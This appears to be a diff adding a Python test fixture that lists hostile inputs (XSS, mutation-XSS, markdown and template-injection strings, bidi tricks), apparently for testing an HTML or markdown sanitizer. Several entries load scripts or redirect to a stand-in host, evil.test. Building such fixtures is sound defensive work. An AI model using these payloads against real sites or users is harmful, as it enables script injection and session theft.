@@ -1,0 +1,46 @@
+"""What people write who hope that it is more than text (S24)."""
+
+from __future__ import annotations
+
+from typing import Final
+
+HOSTILE: Final = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<form action=//evil.test><input name=csrf><button>Go</button></form>",
+    "<a href='javascript:alert(1)'>a</a>",
+    "<base href=//evil.test/>",
+    "<meta http-equiv=refresh content='0;url=//evil.test'>",
+    "<link rel=stylesheet href=//evil.test>",
+    "<style>@import '//evil.test'</style>",
+    "<template><script>alert(1)</script></template>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?>",
+    "</div></article><script>alert(1)</script>",
+    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
+    '```python" onmouseover="alert(1)\nx\n```',
+    "```html\n<script>alert(1)</script>\n```",
+    "    </code></pre><script>alert(1)</script>",
+    "`</code><script>alert(1)</script>`",
+    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
+    '[a](http://ok.test/"onmouseover="alert(1))',
+    "[a](http://ok.test 'x\" onmouseover=\"alert(1)')",
+    '![a" onerror="alert(1)](http://evil.test/x.png)',
+    '![<script>alert(1)</script>](http://evil.test/x.png "<script>alert(1)</script>")',
+    "[<script>alert(1)</script>][x]\n\n[x]: http://ok.test",
+    '<http://ok.test/"onmouseover="alert(1)>',
+    "http://ok.test/<script>alert(1)</script>",
+    '@anna"><script>alert(1)</script>',
+    "{{7*7}} ${7*7} {% import os %} #{7*7} <%= 7*7 %>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;img onerror=1&#x3e;",
+    "\u202e<script>\u2066alert(1)\u200b</script>",
+    "\x1b[31m<script>",
+    "x" * 70 + "<a b='" + "c" * 500 + "'>",
+]
